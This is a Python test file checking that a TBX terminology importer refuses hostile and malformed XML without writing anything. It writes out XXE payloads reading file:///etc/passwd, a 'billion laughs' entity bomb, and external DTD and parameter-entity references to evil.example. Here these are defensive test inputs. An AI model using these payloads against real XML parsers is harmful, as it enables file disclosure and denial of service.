"""Hostile and broken files: each refused with a clear error, at its line and column where there is
one, and nothing written."""

import io

import pytest

from app.db import Database
from termbase.exchange.importer import ImportOptions, import_termbase
from tests.tbx_support import import_bytes, state

ROOT = b'<tbx xmlns="urn:iso:std:iso:30042:ed-2" type="TBX-Basic" style="dca" xml:lang="en">'
HEADER = b"<tbxHeader><fileDesc><sourceDesc><p>x</p></sourceDesc></fileDesc></tbxHeader>"
ENTRY = (
    b'<conceptEntry id="c%d"><langSec xml:lang="en"><termSec><term>term %d</term>'
    b"</termSec></langSec></conceptEntry>\n"
)


def refused(database: Database, data: bytes, code: str, **options: object):  # type: ignore[no-untyped-def]
    before = state(database)
    report = import_bytes(database, data, **options)  # type: ignore[arg-type]
    assert not report.accepted and not report.committed
    assert report.errors[0].code == code, report.errors
    assert state(database) == before
    return report.errors[0]


def test_external_entities_are_refused(database: Database) -> None:
    data = (
        b'<?xml version="1.0"?>\n<!DOCTYPE tbx [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
        + ROOT
        + HEADER
        + b'<text><body><conceptEntry id="c1"><langSec xml:lang="en"><termSec><term>&xxe;</term>'
        b"</termSec></langSec></conceptEntry></body></text></tbx>"
    )
    error = refused(database, data, "forbidden-entity")
    assert (error.line, error.column) == (3, 3)
    assert "entity declarations are refused" in error.message


def test_an_entity_expansion_bomb_is_refused(database: Database) -> None:
    lol = ['<!ENTITY lol "lol">']
    for i in range(1, 10):
        lol.append(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">')
    data = (
        f'<?xml version="1.0"?>\n<!DOCTYPE tbx [\n{chr(10).join(lol)}\n]>\n'.encode()
        + ROOT.replace(b'xml:lang="en"', b'xml:lang="en" note="&lol9;"')
        + HEADER
        + b"<text/></tbx>"
    )
    error = refused(database, data, "forbidden-entity")
    assert error.line == 3


def test_parameter_entities_are_refused(database: Database) -> None:
    data = (
        b'<?xml version="1.0"?><!DOCTYPE tbx [<!ENTITY % remote SYSTEM "http://evil.example/x">'
        b"%remote;]>" + ROOT + HEADER + b"<text/></tbx>"
    )
    refused(database, data, "forbidden-entity")


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE tbx SYSTEM "http://evil.example/tbx.dtd">',
        b'<!DOCTYPE tbx SYSTEM "file:///etc/passwd">',
        b'<!DOCTYPE martif PUBLIC "-//LISA OSCAR:1999//DTD for TBX//EN" '
        b'"/tmp/TBXcoreStructV02.dtd">',
        b'<!DOCTYPE tbx SYSTEM "../TBXcoreStructV02.dtd">',
    ],
)
def test_external_dtds_are_refused(database: Database, doctype: bytes) -> None:
    data = b'<?xml version="1.0"?>\n\n' + doctype + b"\n" + ROOT + HEADER + b"<text/></tbx>"
    error = refused(database, data, "forbidden-dtd")
    assert (error.line, error.column) == (3, 1)


def test_an_internal_subset_without_entities_is_refused_too(database: Database) -> None:
    data = b'<!DOCTYPE tbx [<!ATTLIST tbx style CDATA "dca">]>' + ROOT + HEADER + b"<text/></tbx>"
    refused(database, data, "forbidden-dtd")


def test_the_tbx_v2_dtd_is_named_but_never_loaded(database: Database) -> None:
    data = (
        b'<?xml version="1.0"?>\n<!DOCTYPE martif SYSTEM "TBXcoreStructV02.dtd">\n'
        b'<martif type="TBX" xml:lang="en"><martifHeader><fileDesc><sourceDesc><p>x</p>'
        b'</sourceDesc></fileDesc></martifHeader><text><body><termEntry id="t1">'
        b'<langSet xml:lang="en"><tig><term>accepted</term></tig></langSet></termEntry>'
        b"</body></text></martif>"
    )
    report = import_bytes(database, data)
    assert report.committed and report.concepts.created == 1


def test_an_undeclared_entity_is_malformed(database: Database) -> None:
    data = (
        ROOT
        + HEADER
        + b'<text><body><conceptEntry id="c1"><langSec xml:lang="en">'
        + (b"<termSec><term>&nope;</term></termSec></langSec></conceptEntry></body></text></tbx>")
    )
    error = refused(database, data, "malformed-xml")
    assert "nope" in error.message and error.line == 1


class EndlessTbx(io.RawIOBase):
    """A 2 GB file that is never in memory: a TBX header, then concept entries, lazily."""

    def __init__(self, size: int = 2 * 1024**3) -> None:
        self.size = size
        self.served = 0
        self.entries = 0
        self.pending = b'<?xml version="1.0"?>\n' + ROOT + HEADER + b"<text><body>\n"

    def readable(self) -> bool:
        return True

    def read(self, size: int = -1) -> bytes:
        size = 1 << 16 if size is None or size < 0 else size
        while len(self.pending) < size and self.served + len(self.pending) < self.size:
            self.entries += 1
            self.pending += ENTRY % (self.entries, self.entries)
        piece, self.pending = self.pending[:size], self.pending[size:]
        piece = piece[: max(0, self.size - self.served)]
        self.served += len(piece)
        return piece


def test_a_2_gb_stream_is_refused_at_the_cap_without_reading_it(database: Database) -> None:
    stream = EndlessTbx()
    cap = 4 * 1024 * 1024
    before = state(database)
    with database.sessionmaker() as session:
        report = import_termbase(stream, session=session, options=ImportOptions(max_bytes=cap))
        session.rollback()
    assert not report.accepted
    assert report.errors[0].code == "too-large"
    assert "over the limit of 4,194,304 bytes" in report.errors[0].message
    assert stream.served <= cap + 1  # never a byte more than the cap (plus one, to know)
    assert report.concepts.created > 10_000  # it was read and written as a stream until then
    assert state(database) == before


def test_invalid_utf8_is_refused_at_its_line_and_column(database: Database) -> None:
    data = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        + ROOT
        + HEADER
        + b'\n<text><body><conceptEntry id="c1"><langSec xml:lang="fr">\n'
        b"<termSec><term>caf\xe9 cr\xe8me</term></termSec></langSec></conceptEntry>"
        b"</body></text></tbx>"
    )
    error = refused(database, data, "invalid-encoding")
    assert error.line == 4 and error.column is not None
    assert "not valid text" in error.message


@pytest.mark.parametrize(
    ("data", "line"),
    [
        (ROOT + HEADER + b"<text><body><conceptEntry id='c1'><langSec>", 1),  # cut short
        (b"<?xml version='1.0'?>\n" + ROOT + b"\n<tbxHeader></tbx>", 3),  # mismatched tags
        (b"<?xml version='1.0'?>\n" + ROOT + b'\n<text a="1" a="2"/></tbx>', 3),  # attribute twice
    ],
)
def test_malformed_xml_is_refused_at_its_line(database: Database, data: bytes, line: int) -> None:
    error = refused(database, data, "malformed-xml")
    assert error.line == line and error.column


def test_not_tbx_is_refused(database: Database) -> None:
    error = refused(database, b"<?xml version='1.0'?>\n<html><body/></html>", "not-tbx")
    assert (error.line, error.column) == (2, 1)
    from termbase.exchange.importer import ImportFormat

    refused(database, b"\x00\x01\x02binary", "malformed-xml", format=ImportFormat.TBX)


def test_nothing_but_xml_reaches_the_parser(database: Database) -> None:
    # a processing instruction naming a schema URL is ignored, never fetched
    data = (
        b'<?xml version="1.0"?>\n<?xml-model href="http://evil.example/x.sch"?>\n'
        + ROOT
        + HEADER
        + b"<text/></tbx>"
    )
    assert import_bytes(database, data).committed
